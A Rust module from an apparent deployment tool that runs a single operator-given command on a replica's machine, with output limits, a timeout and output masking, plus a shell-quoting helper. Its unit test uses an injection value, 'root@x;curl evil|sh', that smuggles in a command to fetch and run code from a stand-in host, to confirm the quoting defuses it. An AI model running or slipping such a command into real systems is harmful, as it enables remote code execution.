//! One command on a deployment's machine, by a person's word.

use crate::controller::Controller;
use charter_domain::deployment::Deployment;
use charter_domain::replica::Replica;
use charter_engines::log::clean::strip_codes;
use charter_remote::session::quote;
use std::time::Duration;

/// Most that a command may print, and how long it may take.
const PRINTED_MAX: usize = 256 * 1024;
const PATIENCE: Duration = Duration::from_secs(60);

/// What came of it.
#[derive(Clone, Debug, Default)]
pub struct Ran {
    /// Its exit status; none where a signal ended it.
    pub status: Option<u32>,
    /// What it printed, without codes for terminals; untrusted all the same.
    pub stdout: String,
    /// What it complained of, in the same way.
    pub stderr: String,
    /// It printed more than that, and was not waited for.
    pub cut: bool,
}

/// Why it was not run, or not to its end.
#[derive(Clone, Debug, thiserror::Error)]
#[error("{text}")]
pub struct NotRun {
    /// The code of its page.
    pub code: &'static str,
    /// What happened.
    pub text: String,
    /// What to do.
    pub hint: &'static str,
}

impl Controller {
    /// Runs a command in the login shell of the machine of a replica, for a minute at most.
    ///
    /// # Errors
    /// There is no way there, or the machine hangs.
    pub async fn run_there(&self, deployment: &Deployment, replica: &Replica, command: &str) -> Result<Ran, NotRun> {
        let failed = |e: charter_remote::Error| NotRun { code: e.code(), text: e.to_string(), hint: e.hint() };
        let nothing = || NotRun { code: "A0411", text: "no machine is held".to_owned(), hint: "start it with `charter up`" };
        let session = self.link_of(replica).ok_or_else(nothing)?.session().await.map_err(failed)?;
        let (output, cut) = session.exec_some(command, PRINTED_MAX, PATIENCE).await.map_err(failed)?;
        let text = |bytes: &[u8]| {
            let plain = String::from_utf8_lossy(bytes).split('\n').map(strip_codes).collect::<Vec<_>>().join("\n");
            replica.instance().map_or(plain.clone(), |instance| self.masked(deployment, &instance.tag, &plain))
        };
        Ok(Ran { status: output.status, stdout: text(&output.stdout), stderr: text(&output.stderr), cut })
    }
}

/// Words as a shell reads them back: those of letters, digits and a few signs as they are, others quoted.
#[must_use]
pub fn shell_line(words: &[String]) -> String {
    let plain = |word: &String| !word.is_empty() && word.chars().all(|c| c.is_ascii_alphanumeric() || "@%+=:,./-_".contains(c));
    words.iter().map(|word| if plain(word) { word.clone() } else { quote(word) }).collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_of_a_word_is_left_for_the_shell() {
        let words = ["ssh", "-i", "a key", "root@x;curl evil|sh", ""].map(str::to_owned);
        assert_eq!(shell_line(&words), "ssh -i 'a key' 'root@x;curl evil|sh' ''");
    }
}
